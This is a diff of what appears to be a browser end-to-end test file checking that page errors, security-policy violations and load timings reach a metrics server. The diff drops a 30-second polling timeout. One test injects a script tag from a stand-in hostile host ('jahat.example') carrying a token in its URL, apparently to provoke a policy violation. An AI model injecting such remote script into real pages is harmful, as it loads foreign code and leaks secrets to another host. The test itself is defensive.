@@ -4,7 +4,6 @@ import { metricsToken, servers } from '../support/servers';
 
 const PAGE = { id: 'arsitektur-kinerja', path: '/public-display/arsitektur-kinerja?satuan_kerja_id=1012' };
 /** What is gathered is sent some seconds later. */
-const PATIENCE = { timeout: 30_000 };
 
 const figures = async () => {
   const headers = { authorization: `Bearer ${metricsToken}` };
@@ -36,9 +35,7 @@ test('what goes wrong in a remote reaches the server under its name and version'
   expect(request.headers().cookie).toBeUndefined();
   expect(request.postData()).toContain('GAGAL_TAMPIL');
   expect(request.postData()).not.toContain('satuan_kerja_id');
-  await expect
-    .poll(() => figureOf('selaras_insiden_peramban_total', labels), PATIENCE)
-    .toBeGreaterThan(before);
+  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBeGreaterThan(before);
 });
 
 test('a violation of the security policy reaches the server', async ({ page }) => {
@@ -50,9 +47,7 @@ test('a violation of the security policy reaches the server', async ({ page }) =
     script.src = 'https://jahat.example/a.js?token=rahasia';
     document.head.append(script);
   });
-  await expect
-    .poll(() => figureOf('selaras_insiden_peramban_total', labels), PATIENCE)
-    .toBeGreaterThan(before);
+  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBeGreaterThan(before);
 });
 
 test('how long the files of a remote are waited for reaches the server', async ({ page }) => {
@@ -61,7 +56,5 @@ test('how long the files of a remote are waited for reaches the server', async (
   const before = await figureOf('selaras_remote_berkas_detik_count', labels);
   await page.goto(PAGE.path);
   await expect(page.locator('[data-state=ready]')).toBeVisible();
-  await expect
-    .poll(() => figureOf('selaras_remote_berkas_detik_count', labels), PATIENCE)
-    .toBeGreaterThan(before);
+  await expect.poll(() => figureOf('selaras_remote_berkas_detik_count', labels)).toBeGreaterThan(before);
 });
